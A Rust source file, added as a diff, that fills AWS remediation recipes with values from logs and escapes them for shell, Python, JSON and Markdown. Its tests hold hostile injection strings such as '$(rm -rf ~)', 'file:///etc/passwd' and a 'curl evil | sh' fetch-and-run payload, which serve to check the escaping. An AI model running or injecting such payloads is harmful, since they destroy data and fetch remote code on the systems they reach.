@@ -1,0 +1,464 @@
+//! Remediation recipes: the files under `sql/remediation/`, filled with a finding's own values.
+//!
+//! A recipe is a Markdown file with a title and the parts Console, CLI and boto3; its id is the
+//! file's stem. Placeholders are minijinja expressions with a default, so a recipe also reads well
+//! where a value is not known. Nothing is ever run.
+//!
+//! Always true: a value cannot leave its place. Values come from logs, and people paste the result
+//! into a shell. In commands they pass the filter `sh`, in Python `py`, inside JSON documents `json`
+//! (and then `sh`), in prose `code`; a value that passes none of them is escaped as Markdown text.
+
+use std::collections::BTreeMap;
+
+use minijinja::{AutoEscape, Environment, Value};
+
+use super::safe;
+use crate::error::{Result, RuleError};
+use crate::finding::Remediation;
+
+/// The values a recipe may ask for, and what they are.
+pub const VALUES: &[(&str, &str)] = &[
+    ("access_key_id", "long-lived key of a user"),
+    ("account_id", "the account to act in"),
+    ("bad_version", "version id of a managed policy"),
+    (
+        "boundary_arn",
+        "managed policy that was the role's boundary",
+    ),
+    ("client_id", "audience of an OpenID Connect provider"),
+    ("event_time", "first event of the finding, RFC 3339"),
+    ("function_name", "Lambda function"),
+    ("identity_user_id", "user id in Identity Center"),
+    ("instance_id", "EC2 instance"),
+    ("mfa_serial", "serial number or ARN of an MFA device"),
+    ("org_id", "the organization's id"),
+    (
+        "partition",
+        "aws, aws-cn or aws-us-gov; taken from the other values' ARNs if not given",
+    ),
+    ("policy_arn", "managed policy"),
+    ("policy_name", "inline policy"),
+    ("previous_document", "JSON of the policy before the change"),
+    ("previous_version", "version id of a managed policy"),
+    ("profile_id", "profile of Roles Anywhere"),
+    ("provider_arn", "identity provider"),
+    ("role_arn", "the role"),
+    ("role_id", "unique id of the role (AROA…)"),
+    ("role_name", "the role, without its path"),
+    ("session_name", "name of one session of the role"),
+    ("trail_arn", "the trail"),
+    ("trail_name", "the trail"),
+    ("trust_anchor_id", "trust anchor of Roles Anywhere"),
+    ("user_name", "the IAM user, without its path"),
+];
+
+macro_rules! recipes {
+    ($($id:literal),+ $(,)?) => {
+        /// The bundled recipes: id and text.
+        const RECIPES: &[(&str, &str)] = &[
+            $(($id, include_str!(concat!("../../sql/remediation/", $id, ".md")))),+
+        ];
+    };
+}
+
+recipes![
+    "cloudtrail-back-on",
+    "compute-role",
+    "contain-user",
+    "correct-trust-policy",
+    "harden-trust-statement",
+    "identity-provider",
+    "least-privilege",
+    "mfa-for-user",
+    "organization-guard-rails",
+    "password-policy",
+    "remove-permissions",
+    "remove-role",
+    "restore-boundary",
+    "revoke-sessions",
+    "root-account",
+    "workforce-session",
+];
+
+/// The ids of the bundled recipes, sorted.
+pub fn ids() -> impl Iterator<Item = &'static str> {
+    RECIPES.iter().map(|(id, _)| *id)
+}
+
+/// The bundled recipes, ready to be filled.
+pub struct Recipes {
+    environment: Environment<'static>,
+}
+
+impl Recipes {
+    /// Parses the bundled recipes.
+    ///
+    /// # Errors
+    ///
+    /// Where a recipe is no valid template; the tests keep that from happening.
+    pub fn load() -> Result<Self> {
+        let mut environment = Environment::new();
+        environment.set_auto_escape_callback(|_| AutoEscape::None);
+        environment.add_filter("sh", |text: String| {
+            Value::from_safe_string(shell_word(&text))
+        });
+        environment.add_filter("py", |text: String| {
+            Value::from_safe_string(python_text(&text))
+        });
+        environment.add_filter("json", |text: String| {
+            Value::from_safe_string(json_text(&text))
+        });
+        environment.add_filter("code", |text: String| {
+            Value::from_safe_string(code_span(&text))
+        });
+        environment.add_filter("compact", |text: String| compact_json(&text));
+        environment.set_formatter(|out, _state, value| {
+            let text = value.to_string();
+            let text = if value.is_safe() {
+                text
+            } else {
+                safe::markdown(&text).into_owned()
+            };
+            out.write_str(&text).map_err(minijinja::Error::from)
+        });
+        for (id, text) in RECIPES {
+            environment
+                .add_template(id, text)
+                .map_err(|source| recipe_error(id, source))?;
+        }
+        Ok(Self { environment })
+    }
+
+    /// Fills a recipe. Values not given show as a placeholder in capitals; empty ones count as not
+    /// given.
+    ///
+    /// # Errors
+    ///
+    /// Where there is no recipe of that id.
+    pub fn render(&self, id: &str, values: &BTreeMap<String, String>) -> Result<Remediation> {
+        let template = self
+            .environment
+            .get_template(id)
+            .map_err(|source| recipe_error(id, source))?;
+        let mut known: BTreeMap<&str, &str> = values
+            .iter()
+            .filter(|(_, value)| !value.is_empty())
+            .map(|(name, value)| (name.as_str(), value.as_str()))
+            .collect();
+        let partition = known.values().find_map(|value| partition(value));
+        if let Some(partition) = partition {
+            known.entry("partition").or_insert(partition);
+        }
+        let known: BTreeMap<String, Value> = known
+            .into_iter()
+            .map(|(name, value)| (name.to_owned(), Value::from(value)))
+            .collect();
+        let text = template
+            .render(Value::from(known))
+            .map_err(|source| recipe_error(id, source))?;
+        let (title, steps) = split_title(&text)
+            .ok_or_else(|| RuleError::new(id, "the recipe has no `# Title` in its first line"))?;
+        Ok(Remediation {
+            id: id.to_owned(),
+            title,
+            steps,
+        })
+    }
+}
+
+fn recipe_error(id: &str, source: minijinja::Error) -> RuleError {
+    RuleError {
+        source: Some(Box::new(source)),
+        ..RuleError::new(id, "the remediation recipe cannot be filled")
+    }
+}
+
+fn split_title(text: &str) -> Option<(String, String)> {
+    let (first, rest) = text.split_once('\n')?;
+    let title = first.strip_prefix("# ")?;
+    Some((title.to_owned(), rest.trim_start_matches('\n').to_owned()))
+}
+
+/// The partition of an ARN, if the text is one.
+fn partition(text: &str) -> Option<&str> {
+    let partition = text.strip_prefix("arn:")?.split(':').next()?;
+    let plain = partition
+        .bytes()
+        .all(|byte| byte.is_ascii_lowercase() || byte == b'-');
+    (partition.starts_with("aws") && plain).then_some(partition)
+}
+
+/// One word of a POSIX shell that is exactly this text.
+///
+/// No AWS name holds control or invisible characters: they become visible escapes, so that the
+/// command fails where the name was forged. The AWS CLI replaces `file://…` by the contents of the
+/// reader's file; such a value is marked instead.
+fn shell_word(text: &str) -> String {
+    let text = safe::line(text);
+    let lower = text.to_ascii_lowercase();
+    let text = if lower.starts_with("file://") || lower.starts_with("fileb://") {
+        format!("not-a-name:{text}")
+    } else {
+        text.into_owned()
+    };
+    let plain = |c: char| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c);
+    if !text.is_empty() && text.chars().all(plain) {
+        text
+    } else {
+        format!("'{}'", text.replace('\'', r"'\''"))
+    }
+}
+
+/// A Python string literal of exactly this text. JSON's escapes are Python's.
+fn python_text(text: &str) -> String {
+    json_text(text)
+}
+
+/// A JSON string.
+fn json_text(text: &str) -> String {
+    let mut out = Vec::new();
+    safe::json(&serde_json::Value::from(text).to_string(), &mut out);
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+/// A Markdown code span.
+fn code_span(text: &str) -> String {
+    format!("`{}`", safe::line(text).replace('`', "'"))
+}
+
+/// JSON on one line; any other text as it is.
+fn compact_json(text: &str) -> String {
+    match serde_json::from_str::<serde_json::Value>(text) {
+        Ok(value) => value.to_string(),
+        Err(_) => text.to_owned(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::collections::BTreeSet;
+
+    fn render(id: &str, values: &[(&str, &str)]) -> String {
+        let values = values
+            .iter()
+            .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
+            .collect();
+        Recipes::load().unwrap().render(id, &values).unwrap().steps
+    }
+
+    /// The lines of the recipe's part in the given language.
+    fn code(steps: &str, language: &str) -> String {
+        let fence = format!("```{language}\n");
+        steps
+            .split(&fence)
+            .skip(1)
+            .filter_map(|part| part.split("\n```").next())
+            .collect::<Vec<_>>()
+            .join("\n")
+    }
+
+    #[test]
+    fn every_recipe_has_its_parts_with_and_without_values() {
+        let given = |value: &str| -> Vec<(&str, String)> {
+            VALUES
+                .iter()
+                .map(|(name, _)| (*name, format!("{value}-{name}")))
+                .collect()
+        };
+        for id in ids() {
+            for values in [vec![], given("x")] {
+                let values: Vec<_> = values.iter().map(|(n, v)| (*n, v.as_str())).collect();
+                let steps = render(id, &values);
+                for part in ["## Console\n", "## CLI\n", "## boto3\n"] {
+                    assert_eq!(steps.matches(part).count(), 1, "{id}: {part}");
+                }
+                assert!(!steps.contains("{{") && !steps.contains("{%"), "{id}");
+                assert!(!code(&steps, "sh").is_empty(), "{id}");
+                assert!(code(&steps, "python").contains("boto3"), "{id}");
+                for word in ["none", "undefined"] {
+                    assert!(!steps.contains(&format!(" {word} ")), "{id}");
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn recipes_use_known_values_through_filters() {
+        let known: BTreeSet<_> = VALUES.iter().map(|(name, _)| *name).collect();
+        for (id, text) in RECIPES {
+            let recipes = Recipes::load().unwrap();
+            let template = recipes.environment.get_template(id).unwrap();
+            for name in template.undeclared_variables(false) {
+                assert!(known.contains(name.as_str()), "{id} asks for {name}");
+            }
+            for expression in text.split("{{ ").skip(1) {
+                let expression = expression.split(" }}").next().unwrap();
+                let filtered = ["| sh", "| py", "| code"]
+                    .iter()
+                    .any(|filter| expression.ends_with(filter));
+                assert!(filtered, "{id}: {expression}");
+            }
+        }
+    }
+
+    #[test]
+    fn files_and_list_agree() {
+        let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/sql/remediation");
+        let files: BTreeSet<String> = std::fs::read_dir(folder)
+            .unwrap()
+            .map(|entry| entry.unwrap().file_name().into_string().unwrap())
+            .collect();
+        let listed: BTreeSet<String> = ids().map(|id| format!("{id}.md")).collect();
+        assert_eq!(files, listed);
+        assert!(ids().is_sorted());
+    }
+
+    #[test]
+    fn commands_name_services_and_verbs() {
+        let services = [
+            "accessanalyzer",
+            "cloudtrail",
+            "ec2",
+            "iam",
+            "lambda",
+            "organizations",
+            "rolesanywhere",
+            "sso-admin",
+            "sts",
+        ];
+        let verbs = [
+            "assume",
+            "attach",
+            "check",
+            "create",
+            "deactivate",
+            "delete",
+            "describe",
+            "detach",
+            "disable",
+            "disassociate",
+            "enable",
+            "generate",
+            "get",
+            "list",
+            "modify",
+            "provision",
+            "put",
+            "remove",
+            "replace",
+            "set",
+            "start",
+            "update",
+            "validate",
+        ];
+        for id in ids() {
+            let steps = render(id, &[]);
+            let commands = code(&steps, "sh");
+            let mut n_commands = 0;
+            for line in commands.lines().filter(|line| line.starts_with("aws ")) {
+                n_commands += 1;
+                let words: Vec<_> = line.split(' ').collect();
+                assert!(services.contains(&words[1]), "{id}: {line}");
+                let verb = words[2].split('-').next().unwrap();
+                assert!(verbs.contains(&verb), "{id}: {line}");
+            }
+            assert!(n_commands > 0, "{id}");
+        }
+    }
+
+    #[test]
+    fn shells_read_every_value_as_one_word() {
+        let check = |text: &str, expected: &str| assert_eq!(shell_word(text), expected);
+        check("ROLE_NAME", "ROLE_NAME");
+        check("a+b=c,d.e@f-g", "a+b=c,d.e@f-g");
+        check("", "''");
+        check("$(rm -rf ~)", "'$(rm -rf ~)'");
+        check("it's", r"'it'\''s'");
+        check("a\nb\x1b", r"'a\nb\x1b'");
+        check("file:///etc/passwd", "not-a-name:file:///etc/passwd");
+        check("~root", "'~root'");
+    }
+
+    #[test]
+    fn hostile_values_stay_in_their_place() {
+        let hostile = "x'; curl evil | sh; echo \"`id`$(id)\n```\n# heading\u{202e}";
+        let values: Vec<_> = VALUES.iter().map(|(name, _)| (*name, hostile)).collect();
+        for id in ids() {
+            let plain = render(id, &[]);
+            let filled = render(id, &values);
+            assert!(!filled.contains('\u{202e}'), "{id}");
+            let count =
+                |text: &str, what: &str| text.lines().filter(|l| l.starts_with(what)).count();
+            for what in ["```", "#"] {
+                let extra = usize::from(what == "#" && id == "correct-trust-policy");
+                assert_eq!(
+                    count(&filled, what),
+                    count(&plain, what) + extra,
+                    "{id}: {what}"
+                );
+            }
+            let commands = code(&filled, "sh");
+            for line in commands.lines().filter(|line| !line.starts_with('#')) {
+                assert!(
+                    outside_quotes(line).is_some_and(|text| !text.contains("evil")),
+                    "{id}: {line}"
+                );
+            }
+        }
+    }
+
+    /// What a POSIX shell sees of a line outside single and double quotes; `None` where a quote is
+    /// left open.
+    fn outside_quotes(line: &str) -> Option<String> {
+        let mut outside = String::new();
+        let mut quote = None;
+        let mut chars = line.chars();
+        while let Some(c) = chars.next() {
+            match (quote, c) {
+                (None, '\'' | '"') => quote = Some(c),
+                (None, '\\') => {
+                    chars.next();
+                }
+                (None, c) => outside.push(c),
+                (Some(open), c) if open == c => quote = None,
+                (Some('"'), '\\') => {
+                    chars.next();
+                }
+                (Some(_), _) => {}
+            }
+        }
+        quote.is_none().then_some(outside)
+    }
+
+    #[test]
+    fn values_fill_commands_and_documents() {
+        let steps = render(
+            "revoke-sessions",
+            &[
+                ("role_name", "deploy"),
+                ("role_id", "AROAEXAMPLE"),
+                ("session_name", "ci"),
+            ],
+        );
+        assert!(
+            steps.contains("aws iam put-role-policy --role-name deploy "),
+            "{steps}"
+        );
+        assert!(steps.contains(r#"{"aws:userid":"AROAEXAMPLE:ci"}"#));
+        assert!(steps.contains(r#"RoleName="deploy""#));
+
+        let steps = render("contain-user", &[("role_arn", "arn:aws-cn:iam::1:role/x")]);
+        assert!(steps.contains("arn:aws-cn:iam::aws:policy/AWSDenyAll"));
+
+        let document = "{\n  \"Version\": \"2012-10-17\"\n}";
+        let steps = render("correct-trust-policy", &[("previous_document", document)]);
+        assert!(steps.contains("printf '%s\\n' '{\"Version\":\"2012-10-17\"}' > trust.after.json"));
+    }
+
+    #[test]
+    fn an_unknown_recipe_is_an_error() {
+        let error = Recipes::load().unwrap().render("no-such", &BTreeMap::new());
+        assert!(error.is_err());
+    }
+}
